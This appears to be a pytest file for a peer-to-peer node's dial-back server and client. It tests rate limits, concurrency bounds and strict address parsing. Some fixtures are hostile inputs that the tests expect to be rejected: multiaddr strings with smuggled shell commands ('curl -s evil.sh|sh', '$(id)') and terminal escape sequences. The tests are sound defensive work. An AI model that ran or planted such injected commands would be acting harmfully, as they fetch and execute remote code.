"""The dial-back server's bounds and the asker's distrust, without a daemon
(node/transport/hivemind/dialback.py): the handler is driven as p2pd drives it (the observed
address, a stream), the dial itself replaced by one that answers when the test lets it."""

from __future__ import annotations

import asyncio
import json
import logging

import pytest

from swarm_node.node.transport.hivemind import dialback as db
from swarm_node.node.observe.peer_text import printable
from swarm_node.node.transport.addresses import direct_address
from swarm_node.node.transport.hivemind.dialback import DialGate, Reach, ask_dialback, requested_port

PEER = "QmWyMyQmWyMyQmWyMyQmWyMyQmWyMyQmWyMyQmWyMyQmWyMy"


class Info:  # what p2pd gives a handler: the address the stream's connection came from
    def __init__(self, addr: str):
        self.addr = addr


class Writer:
    def __init__(self):
        self.buf, self.closed = b"", False

    def write(self, b: bytes) -> None:
        self.buf += b

    async def drain(self) -> None:
        pass

    def close(self) -> None:
        self.closed = True

    def reply(self) -> dict | None:
        return json.loads(self.buf) if self.buf else None


class P2P:
    async def add_binary_stream_handler(self, name, handler) -> None:
        self.handle = handler


def _request(line: bytes) -> asyncio.StreamReader:
    r = asyncio.StreamReader()
    r.feed_data(line)
    return r


class HeldDials:
    """``probe_listener`` as a listener that accepts and never answers, until ``release``."""

    def __init__(self):
        self.started, self.go, self.hosts = asyncio.Event(), asyncio.Event(), []

    def want(self, n: int) -> None:
        self.n = n
        if len(self.hosts) >= n:
            self.started.set()

    async def __call__(self, host: str, port: int, timeout: float = db.DIAL_S) -> tuple[bool, str]:
        self.hosts.append(host)
        if len(self.hosts) >= getattr(self, "n", 1 << 30):
            self.started.set()
        await self.go.wait()
        return True, ""


async def _server(gate: DialGate | None = None) -> P2P:
    p2p = P2P()
    await db.serve_dialback(p2p, gate)
    return p2p


def test_requests_past_the_dial_slots_are_refused_at_once_not_queued(monkeypatch):
    async def go():
        dials = HeldDials()
        monkeypatch.setattr(db, "probe_listener", dials)
        p2p = await _server()
        writers = [Writer() for _ in range(12)]  # from 12 addresses (ids and addresses are cheap)
        tasks = [asyncio.create_task(p2p.handle(Info(f"/ip4/203.0.113.{i + 1}/tcp/4000"), _request(b'{"port": 4001}\n'), w))
                 for i, w in enumerate(writers)]
        dials.want(db.CONCURRENT)
        await asyncio.wait_for(dials.started.wait(), 5)
        # Every request past the busy slots is answered now, while the slots are still held.
        await asyncio.wait_for(asyncio.gather(*tasks[db.CONCURRENT:]), 5)
        held = [t.done() for t in tasks[:db.CONCURRENT]]
        dials.go.set()
        await asyncio.wait_for(asyncio.gather(*tasks[:db.CONCURRENT]), 5)
        return writers, held

    writers, held = asyncio.run(go())
    assert not any(held)
    for w in writers[db.CONCURRENT:]:
        assert w.closed and w.reply()["why"].startswith("busy") and w.reply()["observed"] == "", w.buf
    for i, w in enumerate(writers[:db.CONCURRENT]):
        assert w.reply() == {"observed": f"/ip4/203.0.113.{i + 1}/tcp/4000", "dialed": f"203.0.113.{i + 1}:4001",
                             "reachable": True, "why": ""}


def test_streams_past_the_open_bound_are_closed_unread(monkeypatch):
    monkeypatch.setattr(db, "DIAL_S", 60.0)  # a silent asker holds its stream as long as the read lasts

    async def go():
        p2p = await _server()
        writers = [Writer() for _ in range(db.OPEN + 10)]
        tasks = [asyncio.create_task(p2p.handle(Info("/ip4/203.0.113.7/tcp/4000"), asyncio.StreamReader(), w))
                 for w in writers]
        await asyncio.wait_for(asyncio.gather(*tasks[db.OPEN:]), 5)
        still = sum(not t.done() for t in tasks)
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        return writers, still

    writers, still = asyncio.run(go())
    assert still == db.OPEN
    assert all(w.closed and w.buf == b"" for w in writers[db.OPEN:])


def test_one_dial_in_flight_per_address_and_one_per_address_each_interval(monkeypatch):
    now = [1000.0]
    gate = DialGate(clock=lambda: now[0])

    async def go():
        dials = HeldDials()
        monkeypatch.setattr(db, "probe_listener", dials)
        p2p = await _server(gate)
        first, second = Writer(), Writer()
        held = asyncio.create_task(p2p.handle(Info("/ip4/203.0.113.9/tcp/4000"), _request(b'{"port": 4001}\n'), first))
        dials.want(1)
        await asyncio.wait_for(dials.started.wait(), 5)
        await asyncio.wait_for(p2p.handle(Info("/ip4/203.0.113.9/tcp/4100"), _request(b'{"port": 4002}\n'), second), 5)
        dials.go.set()
        await asyncio.wait_for(held, 5)
        again = Writer()
        now[0] += db.PER_IP_S - 1
        await asyncio.wait_for(p2p.handle(Info("/ip4/203.0.113.9/tcp/4200"), _request(b'{"port": 4001}\n'), again), 5)
        later = Writer()
        now[0] += 1
        await asyncio.wait_for(p2p.handle(Info("/ip4/203.0.113.9/tcp/4300"), _request(b'{"port": 4001}\n'), later), 5)
        return first, second, again, later, dials.hosts

    first, second, again, later, hosts = asyncio.run(go())
    assert first.reply()["reachable"] and later.reply()["reachable"]
    assert "already in flight" in second.reply()["why"] and "less than" in again.reply()["why"]
    assert hosts == ["203.0.113.9", "203.0.113.9"]


def test_the_rate_table_is_bounded_and_ipv6_counts_per_64():
    now = [0.0]
    gate = DialGate(clock=lambda: now[0])
    for i in range(db.TRACKED + 50):
        assert gate.admit(f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}") == ""
        gate.done(f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}")
    assert len(gate.last) == db.TRACKED
    assert gate.admit("2001:db8:0:1::1") == ""
    assert gate.admit("2001:db8:0:1::2").startswith("busy")  # the same /64
    assert gate.admit("2001:db8:0:2::1") == ""
    now[0] += db.PER_IP_S
    assert gate.admit("10.0.0.5") == "" and len(gate.last) == 1  # expired entries are dropped


def test_hostile_requests_get_no_dial_and_no_traceback(monkeypatch, caplog):
    lines = [b'{"port": 1e400}\n', b'{"port": -1e400}\n', b'{"port": NaN}\n', b'{"port": true}\n', b'{"port": 80.5}\n',
             b'{"port": "80"}\n', b'[80]\n', b'80\n', b'{"port": 0}\n', b'{"port": 65536}\n', b'\xff\xfe\n',
             b'[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n', b'{"port": 4001, "x": "' + b"a" * 60 + b'"}\n']
    assert [requested_port(x) for x in lines] == [None] * len(lines)
    assert requested_port(b'{"port": 4001}\n') == 4001

    async def go():
        dials = HeldDials()
        dials.go.set()
        monkeypatch.setattr(db, "probe_listener", dials)
        p2p = await _server(DialGate(per_ip_s=0))
        writers = [Writer() for _ in lines]
        for line, w in zip(lines, writers):
            await asyncio.wait_for(p2p.handle(Info("/ip4/203.0.113.9/tcp/4000"), _request(line), w), 5)
        return writers, dials.hosts

    with caplog.at_level(logging.WARNING):
        writers, hosts = asyncio.run(go())
    assert hosts == [] and all(w.closed and w.buf == b"" for w in writers)
    assert not [r for r in caplog.records if r.levelno >= logging.WARNING]


def test_an_ipv6_asker_is_dialed_at_a_bracketed_address(monkeypatch):
    async def go():
        dials = HeldDials()
        dials.go.set()
        monkeypatch.setattr(db, "probe_listener", dials)
        p2p = await _server()
        w = Writer()
        await asyncio.wait_for(p2p.handle(Info("/ip6/2001:db8::1/tcp/4000"), _request(b'{"port": 4001}\n'), w), 5)
        return w.reply()

    assert asyncio.run(go())["dialed"] == "[2001:db8::1]:4001"


def test_only_direct_addresses_parse():
    assert direct_address("/ip4/203.0.113.9/tcp/4001") == ("203.0.113.9", 4001)
    assert direct_address("/ip6/2001:db8::1/tcp/4001") == ("2001:db8::1", 4001)
    for bad in ['/ip4/1.2.3.4"]\'; curl -s evil.sh|sh; echo \'/tcp/4001', "/ip4/2001:db8::1/tcp/4001",
                "/ip6/1.2.3.4/tcp/4001", "/ip4/1.2.3.4/tcp/65536", "/ip4/1.2.3.4/tcp/-1", "/ip4/1.2.3.4/tcp/٤٠٠١",
                "/ip6/fe80::1%$(id)/tcp/4001", "/ip4/1.2.3.4/tcp/4001/p2p/QmRelay/p2p-circuit", "/dns4/evil/tcp/1",
                "/ip4/1.2.3.4", "", None, 4001, ["/ip4/1.2.3.4/tcp/1"]]:
        assert direct_address(bad) is None, bad
    assert printable("\x1b[32mok\x1b[0m\nnext\u202eline") == "?[32mok?[0m?next?line"


class AskP2P:
    """The asker's side of a stream to a peer that replies ``line``."""

    def __init__(self, line: bytes):
        self.line, self.sent = line, Writer()

    async def call_binary_stream_handler(self, peer, name):
        return None, _request(self.line), self.sent


@pytest.mark.parametrize("reply", [
    {"observed": '/ip4/1.2.3.4"]\'; curl -s evil.sh|sh; echo \'/tcp/4001', "dialed": "x", "reachable": True,
     "why": "\x1b[32mok\x1b[0m"},
    {"observed": "/ip4/1.2.3.4/tcp/4001/p2p/QmR/p2p-circuit", "dialed": "", "reachable": False, "why": "relay"},
    {"observed": ["/ip4/1.2.3.4/tcp/4001"], "dialed": "", "reachable": True, "why": ""},
])
def test_the_asker_keeps_no_address_it_cannot_parse_and_no_control_characters(reply):
    r = asyncio.run(ask_dialback(AskP2P(json.dumps(reply).encode() + b"\n"), PEER, 4001, timeout=5))
    assert r.observed == "" and r.dialed == "" and not r.reachable, r
    assert all(ch.isprintable() for ch in r.why), r


def test_the_asker_rebuilds_what_it_shows_from_the_parsed_address():
    reply = {"observed": "/ip6/2001:db8::1/tcp/4000", "dialed": "2001:db8::1:4001\x1b[2J", "reachable": 1, "why": ""}
    r = asyncio.run(ask_dialback(AskP2P(json.dumps(reply).encode() + b"\n"), PEER, 4001, timeout=5))
    assert r == Reach(PEER, 4001, "/ip6/2001:db8::1/tcp/4000", "[2001:db8::1]:4001", False, "")  # 1 is not True
    busy = {"observed": "", "dialed": "", "reachable": False, "why": "busy: 4 dials in flight"}
    r = asyncio.run(ask_dialback(AskP2P(json.dumps(busy).encode() + b"\n"), PEER, 4001, timeout=5))
    assert r.observed == "" and r.why.startswith("busy")
